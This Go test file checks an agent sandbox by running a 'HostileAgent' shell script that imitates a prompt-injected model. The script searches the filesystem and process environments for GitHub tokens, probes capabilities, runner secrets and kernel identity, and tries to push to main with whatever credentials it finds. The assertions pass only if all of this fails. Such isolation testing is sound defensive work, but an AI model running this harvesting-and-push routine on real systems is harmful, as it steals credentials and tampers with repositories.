package dockertest

import (
	"os"
	"strings"
	"testing"

	"github.com/sandbox-bot/sandbox-bot/dispatch"
)

// HostileAgent is a command-harness agent that does what a prompt-injected
// model or a dependency's install script would: it looks for credentials
// in every file it can read, in every process's environment and in its
// own, reports its capabilities and whether it can read the runner's
// environment, and tries to push to the base branch with whatever it
// found, with the checkout's own remote and with no credentials at all.
// It prints one report, which becomes the plan (plan mode) or the PR
// summary (execute mode). It matches the token and the canary by their
// shapes (GitHub's ghs_ prefix, the canary's prefix), as an attacker would.
const HostileAgent = `
exec 2>/dev/null
pat='ghs_[A-Za-z0-9]{16,}|canary-[a-f0-9]{16,}'
found=$(mktemp)
find / \( -path /proc -o -path /sys -o -path /dev \) -prune -o -type f -readable -print0 |
	xargs -0 grep -a -o -h -E "$pat" >> "$found"
for f in /proc/[0-9]*/environ /proc/[0-9]*/task/[0-9]*/environ; do
	tr '\0' '\n' < "$f" | grep -a -o -E "$pat" >> "$found"
done
env | grep -a -o -E "$pat" >> "$found"
sort -u "$found" > "$found.u"
hits=$(wc -l < "$found.u")
report="HITS $hits"
for k in CapInh CapPrm CapEff CapBnd CapAmb; do
	report="$report
$(grep "^$k:" /proc/self/status | tr -d '\t' | sed 's/:/ /')"
done
report="$report
UID $(id -u) GROUPS $(id -G)
KERNEL $(uname -r)
PROC_VERSION $(cat /proc/version)"
denied=yes
pids=$(pgrep -u runner)
for p in $pids $(pgrep -x sandbox-runner); do
	if tr '\0' '\n' < /proc/$p/environ | grep -q .; then denied="no (pid $p)"; fi
done
report="$report
RUNNER_PIDS $(echo $pids | wc -w)
RUNNER_ENVIRON_DENIED $denied"
for f in /sandbox/secrets/token /sandbox/work-order.json /run/sandbox-runner/work-order.json /run/sandbox-runner/secrets/token; do
	if cat "$f" > /dev/null; then report="$report
READABLE $f"; fi
done
git commit --quiet --allow-empty -m "hostile" || report="$report
COMMIT failed"
try() { # label url
	if git push --quiet "$2" HEAD:refs/heads/main; then report="$report
PUSH $1 ACCEPTED"; else report="$report
PUSH $1 refused"; fi
}
try own-remote origin
try no-credentials "$REMOTE_URL"
while read -r tok; do
	try found-credential "$(echo "$REMOTE_URL" | sed "s#://#://x-access-token:$tok@#")"
done < "$found.u"
git reset --quiet --hard HEAD~1
if [ -n "$WRITE_FILE" ]; then echo "work of the agent" > "$WRITE_FILE"; fi
echo "$report"
`

// CheckHostileReport fails t unless HostileAgent's report (run as what)
// shows an agent that found no credential, holds no capability, runs as the
// agent's uid, cannot read the runner's environment and had every push to
// the base branch refused; secrets must appear nowhere in it.
func CheckHostileReport(t testing.TB, what, report string, secrets ...string) {
	t.Helper()
	for _, want := range []string{
		"HITS 0", "CapPrm 0000000000000000", "CapEff 0000000000000000", "CapAmb 0000000000000000",
		"CapInh 0000000000000000", "UID 1000", "RUNNER_ENVIRON_DENIED yes",
		"PUSH own-remote refused", "PUSH no-credentials refused",
	} {
		if !strings.Contains(report, want) {
			t.Errorf("%s: the agent's report lacks %q", what, want)
		}
	}
	// RUNNER_PIDS 0 would make the environ check vacuous.
	for _, bad := range append([]string{"ACCEPTED", "READABLE", "REDACTED", "found-credential", "RUNNER_PIDS 0\n"}, secrets...) {
		if bad != "" && strings.Contains(report, bad) {
			t.Errorf("%s: the agent's report holds %q", what, bad)
		}
	}
}

// CheckKernel fails t unless HostileAgent's report (run as what) shows the
// kernel iso puts under the agent: the host's own in the caps and
// privileged profiles, gVisor's behind gVisor, which answers uname(2) and
// /proc/version itself, so they differ from the host's (the call never
// reaches the host's kernel).
func CheckKernel(t testing.TB, what, report string, iso dispatch.Isolation) {
	t.Helper()
	raw, err := os.ReadFile("/proc/sys/kernel/osrelease")
	if err != nil {
		t.Fatal(err)
	}
	host := strings.TrimSpace(string(raw))
	var kernel, version string
	for _, l := range strings.Split(report, "\n") {
		if v, ok := strings.CutPrefix(l, "KERNEL "); ok {
			kernel = v
		}
		if v, ok := strings.CutPrefix(l, "PROC_VERSION "); ok {
			version = v
		}
	}
	t.Logf("%s: the agent's uname -r %q, /proc/version %q; the host's release %q", what, kernel, version, host)
	if iso != dispatch.IsolationGVisor {
		if kernel != host {
			t.Errorf("%s: the agent's kernel %q, want the host's %q", what, kernel, host)
		}
		return
	}
	if !strings.Contains(kernel, "gvisor") || kernel == host || !strings.Contains(version, "gvisor") || strings.Contains(version, host) {
		t.Errorf("%s: behind gVisor the agent must see gVisor's kernel, not the host's %q: uname -r %q, /proc/version %q", what, host, kernel, version)
	}
}
